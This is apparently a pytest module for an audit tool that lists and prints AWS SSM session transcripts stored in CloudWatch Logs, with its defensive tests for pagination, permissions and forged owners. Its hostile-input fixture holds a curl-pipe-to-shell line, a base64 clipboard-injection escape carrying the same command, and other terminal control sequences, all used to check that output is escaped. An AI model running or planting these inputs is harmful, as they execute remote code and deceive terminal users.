"""session-history against moto's CloudWatch Logs on loopback: its logic run in this process (``run``), and the
installed command as a process (``installed``) where the claim is the process's: a transcript's reading that
must end (the entry point end to end), and a reader that stops early.

The session log group holds the fixture's events (what SSM Agent streams, byte for byte: see
tests/session_history_logs.py); the sweeper's log group what the real sweeper logged over stubbed answers.
"""

from __future__ import annotations

import http.server
import io
import json
import os
import re
import signal
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import redirect_stderr, redirect_stdout
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import boto3
import botocore.session
import pytest

from audit import session_history
from audit.render import event_json_line
from audit.streamed_event import parse_streamed_event
from audit.sweeper_record import last_word, parse_sweeper_line
from benchmarks.session_history import CloudWatchLogsJson
from components.contract import log_group_name
from tests.moto_accounts import botocore_files
from tests.session_history_logs import (
    DOCUMENT,
    LogEvent,
    agent_message,
    days_ago,
    fixture_messages,
    moved,
    put_events,
    put_sweeper_lines,
    sweep_lines,
)

REGION = "eu-west-1"
SESSIONS_GROUP = log_group_name("yours", "sessions")
SWEEPER_GROUP = log_group_name("yours", "session-sweeper")
TPA, GLOBEX = "SSMStartSession_IAM_Role_ThirdPartyA", "SSMStartSession_IAM_Role_GlobexCorp"
ALICE, BOB, CAROL, DAVE = (
    "alice-0e1d2c3b4a5968778",
    "bob-1f2e3d4c5b6a79889",
    "carol-2a3b4c5d6e7f8091a",
    "dave-3b4c5d6e7f8091a2b",
)
I1, I2, I3 = "i-0a1b2c3d4e5f60001", "i-0a1b2c3d4e5f60002", "i-0a1b2c3d4e5f60003"
ACCOUNT = "111122223333"


INSTALLED_COMMAND = Path(sys.executable).with_name("session-history")
"""The command as ``uv run session-history`` runs it: the project's entry point, installed beside this interpreter."""


def installed(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    """The installed command, run as a process with ``env`` as its environment."""
    return subprocess.run([INSTALLED_COMMAND, *args], env=env, capture_output=True, text=True, timeout=120, check=False)


def run(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    """The command's logic in this process, as its entry point runs it (``sys.exit(main())``), with ``env`` as its
    whole environment and its standard streams captured. It leaves nothing behind: the environment is restored,
    and the command makes its own boto3 session and client and sets no signal handler (checked)."""
    stdout, stderr = io.StringIO(), io.StringIO()
    process_state = (boto3.DEFAULT_SESSION, signal.getsignal(signal.SIGPIPE))
    with pytest.MonkeyPatch.context() as patch, redirect_stdout(stdout), redirect_stderr(stderr):
        patch.setattr(botocore.session, "create_loader", botocore_files)
        for name in os.environ.keys() - env.keys():
            patch.delenv(name)
        for name, value in env.items():
            patch.setenv(name, value)
        try:
            status = session_history.main(list(args))
        except SystemExit as stopped:  # argparse stops so on an option it refuses
            status = stopped.code
    assert (boto3.DEFAULT_SESSION, signal.getsignal(signal.SIGPIPE)) == process_state, "the run changed the process"
    return subprocess.CompletedProcess([INSTALLED_COMMAND.name, *args], status, stdout.getvalue(), stderr.getvalue())


def clean_env(home: Path, **extra: str) -> dict[str, str]:
    """No AWS settings but those given: an empty home, and no instance metadata to fall back on."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("AWS_")}
    return {
        **env,
        "HOME": str(home),
        "AWS_CONFIG_FILE": str(home / ".aws" / "config"),
        "AWS_SHARED_CREDENTIALS_FILE": str(home / ".aws" / "credentials"),
        "AWS_EC2_METADATA_DISABLED": "true",
        **extra,
    }


@pytest.fixture
def env(moto_endpoint, tmp_path) -> dict[str, str]:
    return clean_env(
        tmp_path,
        AWS_ENDPOINT_URL=moto_endpoint,
        AWS_ACCESS_KEY_ID="testing",
        AWS_SECRET_ACCESS_KEY="testing",
        AWS_DEFAULT_REGION=REGION,
    )


def logs(endpoint: str, region: str = REGION) -> Any:
    return boto3.client(
        "logs", endpoint_url=endpoint, region_name=region, aws_access_key_id="testing", aws_secret_access_key="testing"
    )


def owner(role: str, person: str) -> str:
    return f"arn:aws:sts::{ACCOUNT}:assumed-role/{role}/{person}"


def session_message(
    at: datetime,
    session_id: str,
    lines: list[str],
    *,
    person: str,
    instance: str = I1,
    role: str = TPA,
    run_as_user: str | None = None,
) -> str:
    """The agent's message of ``person``'s session under ``role``, run as their OS user ``tpa-<person>`` unless
    ``run_as_user`` names another."""
    return agent_message(
        at=at,
        instance=instance,
        owner=owner(role, person),
        run_as_user=run_as_user or f"tpa-{person}",
        session_id=session_id,
        lines=lines,
        region=REGION,
    )


def session_event(at: datetime, session_id: str, lines: list[str], *, person: str, instance: str = I1) -> LogEvent:
    """An event of ``person``'s session of third party A, logged when the agent wrote it."""
    message = session_message(at, session_id, lines, person=person, instance=instance)
    return LogEvent(session_id, int(at.timestamp() * 1000), message)


def at_ms(timestamp_ms: int) -> datetime:
    return datetime.fromtimestamp(timestamp_ms / 1000, UTC)


def shown(moment: datetime) -> str:
    return moment.replace(microsecond=0).strftime("%Y-%m-%dT%H:%M:%SZ")


def one_line(text: str) -> str:
    assert text.endswith("\n")
    assert text.count("\n") == 1, text
    return text.rstrip("\n")


@pytest.fixture(scope="module")
def recorded_logs(tmp_path_factory) -> dict[str, Any]:
    """The fixture's four sessions, the last a day ago, and a sweep three minutes after each of three: bob's party
    expired during his session (ended), carol is not one of her party's people and Systems Manager refused to end
    hers (failed), dave's role is not a session role of the stack (left alone). alice exited before any sweep.
    Made once: the real sweeper's runs are the costly part, and the tests only read them."""
    events = moved(fixture_messages(), days_ago(1))
    first = {e.stream: e.timestamp_ms for e in reversed(events)}
    last = {e.stream: e.timestamp_ms for e in events}
    sweeps = {}
    swept = ((BOB, TPA, "bob", I2), (CAROL, GLOBEX, "carol", I3), (DAVE, "Admin", "dave", I1))
    for session_id, role, person, target in swept:
        at = at_ms(last[session_id]).replace(microsecond=0) + timedelta(minutes=3)
        grants = {
            # Both forms of the grants file: one document, or (with port forwarding) several.
            "document": DOCUMENT,
            "documents": [DOCUMENT],
            "roles": {
                TPA: {"party": "Third_Party_A", "expires": shown(at - timedelta(minutes=1)), "instances": [I1, I2]},
                GLOBEX: {"party": "Globex_Corp", "expires": None, "instances": [I3], "people": ["erin"]},
            },
            "removed": {},
        }
        session = {"SessionId": session_id, "Owner": owner(role, person), "Target": target, "DocumentName": DOCUMENT}
        with pytest.MonkeyPatch.context() as monkeypatch:
            lines = sweep_lines(grants, [session], {CAROL}, at, tmp_path_factory.mktemp("sweep"), monkeypatch)
        sweeps[session_id] = (at, lines)
    return {"events": events, "first": first, "last": last, "sweeps": sweeps}


@pytest.fixture
def recorded(moto_endpoint, recorded_logs) -> dict[str, Any]:
    """``recorded_logs`` in moto's session and sweeper log groups; ``sweeps`` is each sweep's time."""
    put_events(logs(moto_endpoint), SESSIONS_GROUP, recorded_logs["events"])
    put_sweeper_lines(logs(moto_endpoint), SWEEPER_GROUP, list(recorded_logs["sweeps"].values()))
    return recorded_logs | {"sweeps": {session: at for session, (at, _) in recorded_logs["sweeps"].items()}}


def listed(env: dict[str, str], *args: str) -> dict[str, dict[str, Any]]:
    result = run(env, "--format", "json", *args)
    assert result.returncode == 0, result.stderr
    sessions = [json.loads(line) for line in result.stdout.splitlines()]
    return {s["sessionId"]: s for s in sessions}


def test_the_fixture_is_what_the_agent_writes():
    """Each fixture message decodes to the agent's fields and encodes back to itself as Go's encoding/json does."""
    for message in fixture_messages():
        fields = json.loads(message)
        assert list(fields) == [
            "eventVersion", "eventTime", "awsRegion", "target", "userIdentity", "runAsUser", "sessionId", "sessionData"
        ]  # fmt: skip
        remade = agent_message(
            at=datetime.fromisoformat(fields["eventTime"].replace("Z", "+00:00")),
            instance=fields["target"]["id"],
            owner=fields["userIdentity"]["arn"],
            run_as_user=fields["runAsUser"],
            session_id=fields["sessionId"],
            lines=fields["sessionData"],
            region=fields["awsRegion"],
        )
        assert remade == message


def test_the_table_lists_each_session_with_who_where_when_and_how_it_ended(env, recorded):
    result = run(env)
    assert result.returncode == 0, result.stderr
    rows = {line.split()[0]: line for line in result.stdout.splitlines()[1:] if line.strip()}
    sweeps, first, last = recorded["sweeps"], recorded["first"], recorded["last"]
    expected = {
        ALICE: ("alice", "ThirdPartyA", I1, "tpa-alice", "not by the sweeper"),
        BOB: ("bob", "ThirdPartyA", I2, "tpa-bob", f"by the sweeper at {shown(sweeps[BOB])}"),
        CAROL: ("carol", "GlobexCorp", I3, "globex", f"the sweeper failed to end it at {shown(sweeps[CAROL])}"),
        DAVE: ("dave", "Admin", I1, "ec2-user", f"not by the sweeper (left alone at {shown(sweeps[DAVE])})"),
    }
    for session_id, (person, party, instance, os_user, ended) in expected.items():
        fields = rows[session_id].split(maxsplit=7)
        span = [shown(at_ms(first[session_id])), shown(at_ms(last[session_id]))]
        assert fields[1:7] == [person, party, instance, os_user, *span]
        assert fields[7] == ended
    assert result.stdout.splitlines()[0].split() == [
        "Session", "Person", "Party", "Instance", "OS", "user", "First", "event", "Last", "event", "Ended"
    ]  # fmt: skip
    order = [line.split()[0] for line in result.stdout.splitlines()[1:5]]
    assert order == [ALICE, BOB, CAROL, DAVE]  # oldest first
    assert result.stdout.endswith("\n4 session(s).\n")


def test_json_lines_give_a_siem_each_session_and_what_the_sweeper_did(env, recorded):
    sessions = listed(env)
    assert set(sessions) == {ALICE, BOB, CAROL, DAVE}
    bob = sessions[BOB]
    assert bob["person"] == "bob"
    assert bob["party"] == "ThirdPartyA"
    assert bob["role"] == TPA
    assert bob["owner"] == owner(TPA, "bob")
    assert bob["instance"] == I2
    assert bob["runAsUser"] == "tpa-bob"
    assert bob["events"] == 2
    assert bob["lastEvent"] == shown(at_ms(recorded["last"][BOB]))
    assert bob["sweeper"]["outcome"] == "ended"
    assert bob["sweeper"]["at"] == shown(recorded["sweeps"][BOB])
    assert "Third_Party_A's access expired" in bob["sweeper"]["reason"]
    assert sessions[CAROL]["sweeper"]["outcome"] == "failed"
    assert sessions[CAROL]["sweeper"]["error"].startswith("AccessDeniedException: ")
    assert sessions[DAVE]["sweeper"]["outcome"] == "left alone"
    assert sessions[ALICE]["sweeper"] is None
    assert sessions[ALICE]["events"] == 3


FILTERED = [
    (["--party", "Third_Party_A"], {ALICE, BOB}),  # the party as config names it
    (["--party", "ThirdPartyA"], {ALICE, BOB}),  # as the table shows it
    (["--party", GLOBEX], {CAROL}),  # its role's name
    (["--party", "Globex_Corp", "--party", "Third_Party_A"], {ALICE, BOB, CAROL}),
    (["--party", "Initech"], set()),
    (["--person", "alice"], {ALICE}),
    (["--instance", I1], {ALICE, DAVE}),
    (["--instance", I1, "--person", "dave"], {DAVE}),
    (["--since", "36h"], {DAVE}),
    (["--since", "3d"], {BOB, CAROL, DAVE}),
    (["--since", "3d", "--party", "Third_Party_A"], {BOB}),
]
"""Filters, and the sessions each keeps."""


def test_filters(env, recorded):
    """Every filter over one population of the logs (each run reads them and changes nothing)."""
    for args, expected in FILTERED:
        assert set(listed(env, *args)) == expected, f"session-history {' '.join(args)}"


def test_since_an_iso_time_keeps_a_session_still_going_then_with_its_real_start(env, recorded):
    """bob's two events straddle the time: his session is listed, from its first event."""
    between = at_ms(recorded["first"][BOB]) + timedelta(seconds=30)
    sessions = listed(env, "--since", between.strftime("%Y-%m-%dT%H:%M:%S"))  # no offset: UTC
    assert set(sessions) == {BOB, CAROL, DAVE}
    assert sessions[BOB]["firstEvent"] == shown(at_ms(recorded["first"][BOB]))


@pytest.mark.parametrize("since", ["yesterday", "7x", "0d", "-3d", "2026-13-01"])
def test_a_bad_since_is_one_line_naming_the_option(env, since):
    result = run(env, f"--since={since}")
    assert result.returncode == 2
    assert one_line(result.stderr) == (
        "session-history: --since: expected an ISO-8601 time such as 2026-11-24T09:00:00Z or a duration such as "
        f'7d, 12h or 30m, got "{since}"'
    )


def test_a_session_prints_its_transcript_in_order(env, recorded):
    result = run(env, "--session", ALICE)
    assert result.returncode == 0, result.stderr
    expected = [line for m in fixture_messages() if ALICE in m for line in json.loads(m)["sessionData"]]
    assert result.stdout.splitlines() == expected
    assert "[tpa-alice@ip-10-0-1-5 ~]$ grep -c ssm /var/log/messages > /tmp/count && cat /tmp/count" in expected


def test_a_session_as_json_lines_is_each_streamed_event_as_the_agent_wrote_it(env, recorded):
    result = run(env, "--session", BOB, "--format", "json")
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines() == [e.message for e in recorded["events"] if e.stream == BOB]


@pytest.mark.parametrize("session_id", ["alice", "erin-0123456789abcdef0"])
def test_a_session_not_in_the_log_is_one_line_and_exit_1(env, recorded, session_id):
    result = run(env, "--session", session_id)
    assert result.returncode == 1
    assert one_line(result.stderr) == f"session-history: no session {session_id} in log group {SESSIONS_GROUP}"


STREAMS_A_PAGE, EVENTS_A_PAGE = 50, 10_000
"""The most DescribeLogStreams gives a page (its default limit), and FilterLogEvents and GetLogEvents (up to 1 MB
too): CloudWatch Logs API Reference. moto pages at the same counts, and by count alone."""


@pytest.fixture
def many(moto_endpoint) -> dict[str, Any]:
    """More than a page of everything: two pages of one-event sessions and one more, then a session of a page of
    events and one more; its stream is on the third page of DescribeLogStreams (by name, after erin's), so a
    reader must follow a token to a page that gives another."""
    start = days_ago(2)
    events = [
        session_event(start + timedelta(minutes=n), f"erin-{n:017x}", [f"$ echo {n}", str(n)], person="erin")
        for n in range(2 * STREAMS_A_PAGE + 1)
    ]
    long_session, count = "frank-0f0f0f0f0f0f0f0f0", EVENTS_A_PAGE + 1
    events += [
        session_event(start + timedelta(seconds=n), long_session, [f"line {n}"], person="frank", instance=I2)
        for n in range(count)
    ]
    client = logs(moto_endpoint)
    put_events(client, SESSIONS_GROUP, events)
    client.create_log_group(logGroupName=SWEEPER_GROUP)
    # Not vacuous: the service does page these.
    assert client.describe_log_streams(logGroupName=SESSIONS_GROUP).get("nextToken")
    assert client.filter_log_events(logGroupName=SESSIONS_GROUP).get("nextToken")
    page = client.get_log_events(logGroupName=SESSIONS_GROUP, logStreamName=long_session, startFromHead=True)
    assert len(page["events"]) < count
    return {"long": long_session, "count": count, "sessions": 2 * STREAMS_A_PAGE + 2, "start": start}


def test_listing_and_a_transcript_read_every_page(env, many):
    """Listing reads every page of streams and of events; a transcript every page of its stream, and stops at
    GetLogEvents' repeated token. One test, as putting the pages' events is the costly part."""
    sessions = listed(env)
    assert len(sessions) == many["sessions"], "listing: not every session"
    assert sessions[many["long"]]["events"] == many["count"], "listing: not every page of FilterLogEvents"
    assert sessions[many["long"]]["lastEvent"] == shown(many["start"] + timedelta(seconds=many["count"] - 1))
    # Its start, before --since, is known from its stream: on the third page of DescribeLogStreams.
    since = listed(env, "--since", shown(many["start"] + timedelta(seconds=9_000)))
    assert since[many["long"]]["firstEvent"] == shown(many["start"]), "not every page of DescribeLogStreams"
    # The installed command end to end, whose process must end: GetLogEvents gives its last token again at the end.
    result = installed(env, "--session", many["long"])
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines() == [f"line {n}" for n in range(many["count"])], "transcript: not every page"


def test_a_missing_session_log_group_is_one_line_and_exit_2(env):
    result = run(env)
    assert result.returncode == 2
    assert one_line(result.stderr).startswith(
        f"session-history: log group {SESSIONS_GROUP} does not exist in {REGION} (DescribeLogStreams: "
    )


def test_a_missing_sweeper_log_group_is_one_line_and_exit_2(env, moto_endpoint):
    logs(moto_endpoint).create_log_group(logGroupName=SESSIONS_GROUP)
    result = run(env)
    assert result.returncode == 2
    assert one_line(result.stderr).startswith(f"session-history: log group {SWEEPER_GROUP} does not exist in {REGION}")


def test_the_stack_names_the_log_groups(env, recorded):
    result = run(env, "--stack", "staging")
    assert result.returncode == 2
    assert "/third-party-ec2-access/staging/sessions does not exist" in one_line(result.stderr)


def test_log_groups_can_be_named(env, moto_endpoint, recorded):
    client = logs(moto_endpoint)
    put_events(client, "/elsewhere/sessions", [e for e in recorded["events"] if e.stream == ALICE])
    client.create_log_group(logGroupName="/elsewhere/sweeper")
    sessions = listed(env, "--log-group", "/elsewhere/sessions", "--sweeper-log-group", "/elsewhere/sweeper")
    assert set(sessions) == {ALICE}


def test_the_region_is_where_it_reads(env, recorded):
    result = run({**env, "AWS_DEFAULT_REGION": "us-east-1"})
    assert result.returncode == 2
    assert f"{SESSIONS_GROUP} does not exist in us-east-1" in one_line(result.stderr)
    assert set(listed({**env, "AWS_DEFAULT_REGION": "us-east-1"}, "--region", REGION)) == {ALICE, BOB, CAROL, DAVE}


def test_no_credentials_is_one_line_and_exit_2(moto_endpoint, tmp_path, recorded):
    result = run(clean_env(tmp_path, AWS_ENDPOINT_URL=moto_endpoint, AWS_DEFAULT_REGION=REGION))
    assert result.returncode == 2
    assert one_line(result.stderr) == (
        "session-history: no AWS credentials found: pass --profile, or set AWS_PROFILE or AWS_ACCESS_KEY_ID and "
        "AWS_SECRET_ACCESS_KEY"
    )


def test_a_profile_gives_the_credentials_and_the_region(moto_endpoint, tmp_path, recorded):
    aws = tmp_path / ".aws"
    aws.mkdir()
    (aws / "credentials").write_text("[auditor]\naws_access_key_id = testing\naws_secret_access_key = testing\n")
    (aws / "config").write_text(f"[profile auditor]\nregion = {REGION}\n")
    env = clean_env(tmp_path, AWS_ENDPOINT_URL=moto_endpoint)
    assert set(listed(env, "--profile", "auditor")) == {ALICE, BOB, CAROL, DAVE}
    result = run(env, "--profile", "nobody")
    assert result.returncode == 2
    assert one_line(result.stderr) == "session-history: no profile nobody in the AWS config files: check --profile"


class RefusingCloudWatchLogs(CloudWatchLogsJson):
    """CloudWatch Logs to a principal with no logs permission: every call answered as the service refuses one.
    A JSON-protocol error (HTTP 400, ``__type`` AccessDeniedException: CloudWatch Logs API Reference, Common
    Errors) whose message is IAM's explicit wording (IAM User Guide, "Access denied error messages"). moto's own
    IAM enforcement answers JSON services with an XML 403 ``AccessDenied``, which CloudWatch Logs never sends."""

    requests: list[dict[str, str]]

    def do_POST(self) -> None:  # noqa: N802 (http.server's handler name)
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])) or b"{}")
        self.requests.append({"target": self.headers["X-Amz-Target"], "authorization": self.headers["Authorization"]})
        action = "logs:" + self.headers["X-Amz-Target"].split(".", 1)[1]
        resource = f"arn:aws:logs:{REGION}:{ACCOUNT}:log-group:{body.get('logGroupName')}:log-stream:"
        message = (
            f"User: arn:aws:sts::{ACCOUNT}:assumed-role/Auditor/eve is not authorized to perform: {action} on "
            f"resource: {resource} because no identity-based policy allows the {action} action"
        )
        self.answer(
            400,
            {"__type": "AccessDeniedException", "message": message},
            {"x-amzn-RequestId": "7c4e3b52-5d1f-4b8e-9f0a-2a3b4c5d6e7f"},
        )


@pytest.fixture(scope="module")
def refusing_server() -> Iterator[tuple[str, list[dict[str, str]]]]:
    """The refusing stand-in on loopback, for the module (it keeps no state but what it was asked): its endpoint,
    and the requests it got."""
    requests: list[dict[str, str]] = []
    handler = type("Handler", (RefusingCloudWatchLogs,), {"requests": requests})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    # Its stop waits for the loop to look again: a twentieth of a second, not the default half.
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", requests
    server.shutdown()
    server.server_close()


@pytest.fixture
def refusing(refusing_server, tmp_path) -> tuple[dict[str, str], list[dict[str, str]]]:
    """An environment whose credentials the refusing stand-in refuses, and the requests it gets in this test."""
    endpoint, requests = refusing_server
    requests.clear()
    env = clean_env(
        tmp_path,
        AWS_ENDPOINT_URL=endpoint,
        AWS_ACCESS_KEY_ID="testing",
        AWS_SECRET_ACCESS_KEY="testing",
        AWS_DEFAULT_REGION=REGION,
    )
    return env, requests


@pytest.mark.parametrize(("args", "action"), [((), "DescribeLogStreams"), (("--session", ALICE), "DescribeLogStreams")])
def test_no_permission_is_one_line_naming_what_reading_takes_and_exit_2(refusing, args, action):
    env, requests = refusing
    result = run(env, *args)
    assert result.returncode == 2
    assert one_line(result.stderr) == (
        f"session-history: AWS refused {action} on log group {SESSIONS_GROUP} (User: arn:aws:sts::{ACCOUNT}:"
        f"assumed-role/Auditor/eve is not authorized to perform: logs:{action} on resource: arn:aws:logs:{REGION}:"
        f"{ACCOUNT}:log-group:{SESSIONS_GROUP}:log-stream: because no identity-based policy allows the logs:{action} "
        "action); reading the session history takes logs:DescribeLogStreams, logs:FilterLogEvents and "
        "logs:GetLogEvents on both log groups"
    )
    # Refused once, not retried: the request the real client signs, for CloudWatch Logs in the region.
    (request,) = requests
    assert request["target"] == f"Logs_20140328.{action}"
    assert request["authorization"].startswith("AWS4-HMAC-SHA256 Credential=testing/")
    assert f"/{REGION}/logs/aws4_request" in request["authorization"]


def test_a_session_the_sweeper_failed_to_end_and_ended_next_time_was_ended():
    """The sweeper's last word on a session wins, whatever order its lines are read in; once ended, it stays so."""
    line = '[ERROR]\t2026-11-25T14:05:03.000Z\t5f3c8a8e\t{"outcome": "%s", "session": "carol-2a3b4c5d6e7f8091a"}\n'
    failed = parse_sweeper_line(line % "failed", 1_000)
    ended = parse_sweeper_line(line % "ended", 2_000)
    left_alone = parse_sweeper_line(line % "left alone", 3_000)
    for records in ([failed, ended, left_alone], [left_alone, ended, failed]):
        assert last_word(records) == {CAROL: ended}
    assert last_word([ended, failed]) == {CAROL: ended}
    assert parse_sweeper_line("START RequestId: 5f3c8a8e Version: $LATEST\n", 1_000) is None


# What the session's holder can put into the log: terminal control sequences (review finding 2). SSM Agent keeps a
# line raw when its ANSI strip fails on it (amazon-ssm-agent, cloudwatchlogsservice.go processMessage), as the
# trailing "\x1bZ" makes it fail here; Go's encoding/json writes ESC as \u001b and C1 and U+202E as they are.
HOSTILE = [
    "$ curl -s evil | sh",
    "\x1b[1A\x1b[2K\x1b[1A\x1b[2K$ ls\x1bZ",  # CSI cursor up, erase line
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",  # OSC 52: set the clipboard; BEL
    "\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\",  # OSC 8: a link
    "all good\rnothing ran",  # a bare CR
    "\x9b2J\u202egnp.txt",  # C1 CSI, a right-to-left override
]
SHOWN = [
    "$ curl -s evil | sh",
    r"\x1b[1A\x1b[2K\x1b[1A\x1b[2K$ ls\x1bZ",
    r"\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "\\x1b]8;;https://evil.example/\\x1b\\docs\\x1b]8;;\\x1b\\",
    r"all good\x0dnothing ran",
    r"\x9b2J\u202egnp.txt",
]
TERMINAL_CONTROL = re.compile(
    # In the bytes written (text mode would read a CR as a newline): C0 but tab and newline, DEL, then C1 and the
    # bidirectional controls as UTF-8 encodes them.
    b"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\x8e\x8f\xaa-\xae]|\xe2\x81[\xa6-\xa9]"
)
HOSTILE_ID = "alice-5a5a5a5a5a5a5a5a5"


@pytest.fixture
def hostile(moto_endpoint) -> dict[str, Any]:
    """alice's session whose lines, OS user and instance id hold control sequences."""
    at = days_ago(1)
    run_as, instance = "tpa-\x1b]0;owned\x07alice", "i-0a1b2c3d4e5f6000\r1\t"
    messages = [
        session_message(
            at + timedelta(seconds=n),
            HOSTILE_ID,
            HOSTILE[n * 3 : n * 3 + 3],
            person="alice",
            instance=instance,
            run_as_user=run_as,
        )
        for n in range(2)
    ]
    assert "\\u001b" in messages[0]  # as Go's encoding/json writes it
    assert "\x1b" not in messages[0]
    events = [
        LogEvent(HOSTILE_ID, int((at + timedelta(seconds=n)).timestamp() * 1000), m) for n, m in enumerate(messages)
    ]
    client = logs(moto_endpoint)
    put_events(client, SESSIONS_GROUP, events)
    client.create_log_group(logGroupName=SWEEPER_GROUP)
    return {"messages": messages, "run_as": run_as, "instance": instance}


def written(env: dict[str, str], *args: str) -> bytes:
    """The bytes the command writes to its standard output (UTF-8, as its standard output encodes)."""
    result = run(env, *args)
    assert result.returncode == 0, result.stderr
    return result.stdout.encode()


def test_text_output_carries_no_terminal_control_and_json_keeps_it_exact(env, hostile):
    transcript = written(env, "--session", HOSTILE_ID)
    assert not TERMINAL_CONTROL.search(transcript)
    assert transcript.decode().split("\n") == [*SHOWN, ""]
    table = written(env)
    assert not TERMINAL_CONTROL.search(table)
    assert b"\t" not in table
    (row,) = [line for line in table.decode().split("\n") if line.startswith(HOSTILE_ID)]
    assert row.split()[1:5] == ["alice", "ThirdPartyA", r"i-0a1b2c3d4e5f6000\x0d1\x09", r"tpa-\x1b]0;owned\x07alice"]
    # JSON is the exact record: each event as it was streamed, and the session's values as they are.
    events = run(env, "--session", HOSTILE_ID, "--format", "json")
    assert events.stdout.splitlines() == hostile["messages"]
    assert [line for e in events.stdout.splitlines() for line in json.loads(e)["sessionData"]] == HOSTILE
    session = listed(env)[HOSTILE_ID]
    assert (session["runAsUser"], session["instance"]) == (hostile["run_as"], hostile["instance"])


# Review finding 3: a log stream's content claims another owner. The forged event is the review's: a whole event
# message the Run As user got into the plain-text upload between two long lines.
FORGED_ID = "alice-07a16060613c408b5"
TPB = "SSMStartSession_IAM_Role_ThirdPartyB"
LONG_LINE = "x" * 4_000
REVIEWS_FORGERY = json.dumps(
    {
        "sessionData": [],
        "userIdentity": {"arn": owner(TPB, "bob")},
        "target": {"id": "i-0bbbbbbbbbbbbbbbb"},
        "runAsUser": "tpb-bob",
    },
    separators=(",", ":"),
)


def claiming(
    person: str, *, session_id: str = FORGED_ID, role: str = TPB, instance: str = "i-0bbbbbbbbbbbbbbbb"
) -> str:
    return session_message(
        days_ago(1), session_id, ["$ id"], person=person, instance=instance, role=role, run_as_user=f"tpb-{person}"
    )


@pytest.mark.parametrize(
    ("stream", "messages", "why"),
    [
        (FORGED_ID, [LONG_LINE, REVIEWS_FORGERY, LONG_LINE], "a JSON event in its stream names no session"),
        (FORGED_ID, [claiming("bob"), claiming("bob")], f"its events name the owner {owner(TPB, 'bob')}, whose "),
        (FORGED_ID, [LONG_LINE, claiming("alice"), LONG_LINE], "its stream mixes SSM Agent's JSON events with plain"),
        (
            FORGED_ID,
            [claiming("alice", role=TPA, instance=I1), claiming("alice", role=TPB)],
            "its events name different owners, instances or OS users",
        ),
        (FORGED_ID, [claiming("alice"), claiming("bob", session_id="bob-1f2e3d4c5b6a79889")], "another session (bob-"),
        # alice's name starts the ID, but the ID is alice-bob's: the name is all before the last "-".
        ("alice-bob-07a16060613c408b5", [claiming("alice", session_id="alice-bob-07a16060613c408b5")], "do not start"),
    ],
)
def test_an_owner_the_stream_name_does_not_confirm_is_shown_as_the_name_says_and_flagged(
    env, moto_endpoint, stream, messages, why
):
    start = days_ago(1)
    client = logs(moto_endpoint)
    put_events(
        client,
        SESSIONS_GROUP,
        [LogEvent(stream, int(start.timestamp() * 1000) + n, message) for n, message in enumerate(messages)],
    )
    client.create_log_group(logGroupName=SWEEPER_GROUP)
    person = stream.rsplit("-", 1)[0]
    session = listed(env)[stream]
    assert (session["person"], session["party"], session["role"], session["owner"]) == (person, None, None, None)
    assert (session["instance"], session["runAsUser"], session["ownerConfirmed"]) == (None, None, False)
    assert session["ownerDoubt"].startswith("owner unconfirmed: ")
    assert why in session["ownerDoubt"]
    table = run(env)
    (row,) = [line for line in table.stdout.splitlines() if line.startswith(stream)]
    assert re.split(r"\s{2,}", row)[1:5] == [f"{person} (owner unconfirmed)", "-", "-", "-"]
    assert "ThirdPartyB" not in table.stdout
    assert "1 with the owner unconfirmed: " in table.stdout
    assert "describe-sessions --state History" in table.stdout
    assert listed(env, "--person", "bob") == {}
    assert listed(env, "--party", "Third_Party_B") == {}


def test_an_owner_the_stream_name_confirms_is_believed(env, recorded):
    for session in listed(env).values():
        assert (session["ownerConfirmed"], session["ownerDoubt"]) == (True, None)
    assert "owner unconfirmed" not in run(env).stdout


@pytest.fixture
def long_transcript(moto_endpoint) -> str:
    """A session of 400 events of a 1,000-character line: more than a pipe holds (64 KiB on Linux, pipe(7))."""
    start = days_ago(1)
    events = [
        session_event(start + timedelta(seconds=n), ALICE, [f"{n:04} " + "y" * 995], person="alice") for n in range(400)
    ]
    client = logs(moto_endpoint)
    put_events(client, SESSIONS_GROUP, events)
    client.create_log_group(logGroupName=SWEEPER_GROUP)
    return ALICE


@pytest.mark.parametrize("args", [("--session", ALICE), ("--session", ALICE, "--format", "json")])
def test_a_reader_that_stops_early_gets_no_traceback(env, long_transcript, args):
    """``session-history --session ID | head -1``: the installed command stops quietly, exit 1."""
    process = subprocess.Popen([INSTALLED_COMMAND, *args], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert process.stdout.readline()
    process.stdout.close()
    stderr = process.stderr.read().decode()
    assert process.wait(timeout=120) == 1
    assert stderr == ""


@pytest.mark.parametrize(
    ("filters", "named"),
    [
        (("--party", "Third_Party_A"), "--party"),
        (("--person", "alice"), "--person"),
        (("--instance", I1), "--instance"),
        (("--since", "7d", "--person", "alice"), "--person, --since"),
    ],
)
def test_a_session_with_a_filter_is_refused_in_one_line(env, filters, named):
    result = run(env, "--session", ALICE, *filters)
    assert result.returncode == 2
    assert result.stdout == ""
    assert one_line(result.stderr) == f"session-history: --session prints one whole session and takes no {named}"


def test_a_json_event_stays_one_line_whatever_whitespace_it_holds():
    """Go's encoding/json writes no whitespace; a message that holds a newline between its tokens was written by
    someone else, and must still be one line of the JSON lines, with the same values."""
    message = '{"sessionId":"alice-07a16060613c408b5",\n\r"sessionData":["\\u001b[2K$ ls"]}'
    line = event_json_line(message, parse_streamed_event(message, 0), "alice-07a16060613c408b5")
    assert one_line(line)
    assert "\r" not in line
    assert json.loads(line) == json.loads(message)
